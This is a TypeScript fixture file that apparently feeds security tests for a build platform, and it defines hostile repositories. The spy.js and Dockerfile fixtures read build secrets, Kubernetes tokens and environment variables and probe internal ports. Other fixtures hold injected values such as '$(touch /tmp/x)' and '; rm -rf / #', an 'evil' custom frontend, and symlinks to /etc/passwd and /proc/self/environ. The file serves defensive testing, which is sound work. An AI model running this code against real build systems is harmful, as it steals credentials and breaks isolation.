import type { Tree } from "./pushed-git.ts";

/** What a hostile repository tries from a RUN step: `host:port`; the first is one that every step may reach. */
export type Targets = readonly string[];

/** Tries every target, every secret mount that it can guess, and looks around; what it found becomes a page of the image. */
const spy = `
const fs = require("node:fs");
const net = require("node:net");
const targets = JSON.parse(fs.readFileSync("/app/targets.json", "utf8"));
const read = (path) => { try { return fs.readFileSync(path, "utf8"); } catch { return ""; } };
const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
const knock = (target) => new Promise((resolve) => {
  const at = target.lastIndexOf(":");
  const socket = net.connect({ host: target.slice(0, at), port: Number(target.slice(at + 1)) });
  const end = (word) => { socket.destroy(); resolve(word); };
  socket.setTimeout(4000, () => end("timeout"));
  socket.once("connect", () => end("OPEN"));
  socket.once("error", (error) => end(error.code));
});
(async () => {
  const reached = {};
  for (const target of targets) reached[target] = await knock(target);
  const secrets = Object.fromEntries(list("/run/secrets").map((name) => [name, read("/run/secrets/" + name)]));
  const token = read("/var/run/secrets/kubernetes.io/serviceaccount/token");
  const found = { reached, secrets, token, taken: read("/app/taken"), git: list("/app/.git"), env: process.env, tls: list("/tls"), registry: list("/registry"), uid: process.getuid() };
  fs.writeFileSync("/app/found.json", JSON.stringify(found));
})();
`;

/** Its program serves what was found, and prints the secret that it was given. */
const server = `
const fs = require("node:fs");
console.log("paid with " + process.env.STRIPE_SECRET_KEY);
require("node:http").createServer((request, response) => {
  response.setHeader("content-type", "application/json");
  const token = fs.existsSync("/var/run/secrets/kubernetes.io/serviceaccount/token");
  response.end(JSON.stringify({ ...JSON.parse(fs.readFileSync("/app/found.json", "utf8")), podToken: token }));
}).listen(process.env.PORT || 8080);
`;

/** A repository with a Dockerfile that goes for whatever a build could reach. */
export function spyTree(targets: Targets, printed: string): Tree {
  return {
    files: {
      Dockerfile: `FROM docker.io/library/node:24-slim
WORKDIR /app
COPY . .
RUN echo "npm notice using token ${printed}"
RUN --mount=type=secret,id=GIT_AUTH_TOKEN --mount=type=secret,id=registry --mount=type=secret,id=STRIPE_SECRET_KEY cat /run/secrets/* > /app/taken 2>/dev/null; ls -laR /run/secrets >> /app/taken 2>/dev/null; true
RUN --mount=type=secret,id=git --mount=type=secret,id=GIT_AUTH_HEADER --mount=type=secret,id=.dockerconfigjson node spy.js
USER 1000
EXPOSE 8080
CMD ["node", "server.js"]
`,
      "spy.js": spy,
      "server.js": server,
      "targets.json": JSON.stringify(targets),
    },
  };
}

/** A build that prints a token and fails: its last lines are kept. */
export function tellingBuild(printed: string): Tree {
  return {
    files: {
      Dockerfile: `FROM docker.io/library/node:24-slim
WORKDIR /app
COPY . .
RUN echo "Authorization: Bearer ${printed}" && echo "https://someone:${printed}@example.org/private.git" && exit 3
EXPOSE 8080
CMD ["node", "server.js"]
`,
      "server.js": server,
    },
  };
}

/** A program that prints the secret that it was given, and ends: its last lines are told. */
export function tellingProgram(): Tree {
  return {
    files: {
      "package.json": JSON.stringify({ name: "teller", version: "1.0.0", scripts: { start: "node server.js" } }),
      "server.js": `console.error("charge failed for key " + process.env.STRIPE_SECRET_KEY + ", giving up");
require("node:http").createServer(() => undefined);
process.exit(1);
`,
    },
  };
}

/** A frontend of somebody's choice. */
export const ownFrontend: Tree = {
  files: {
    Dockerfile:
      '# syntax=evil/frontend:latest\nFROM docker.io/library/node:24-slim\nEXPOSE 8080\nCMD ["node", "server.js"]\n',
    "server.js": server,
  },
};

/** Names, links and texts that break programs which did not expect them; it works all the same. */
export const oddTree: Tree = {
  files: {
    "package.json": JSON.stringify({
      name: "odd",
      version: "1.0.0",
      description: "\u001B[31mred\u001B[0m\r\nsecond line\u0007",
      scripts: {
        build: "node -e \"console.log('\u001B[2J\u001B[1;31mbuilt')\"\nnode --version",
        start: "node server.js",
        "\u001B[8m$(touch /tmp/x)": "; rm -rf / #",
      },
    }),
    "server.js": `require("node:http").createServer((request, response) => {
  response.setHeader("content-type", "text/html");
  response.end("<title>\\u001b[31mOdd\\u0007</title>odd but well");
}).listen(process.env.PORT);
`,
    "--help": "a file with the name of an option\n",
    "-rf": "another\n",
    "$(id)": "a third\n",
    "new\nline": "a fourth\n",
    [`${"n".repeat(200)}.js`]: "// a long name\n",
  },
  links: { leak: "/etc/passwd", up: "../../../../..", round: "round", "config.json": "/proc/self/environ" },
};

/** No file system takes this name; git does. */
export const tooLongName: Tree = {
  files: {
    "package.json": JSON.stringify({ name: "long", scripts: { start: "node server.js" } }),
    "server.js": server,
  },
  entries: { [`${"x".repeat(300)}.js`]: "// too long\n" },
};
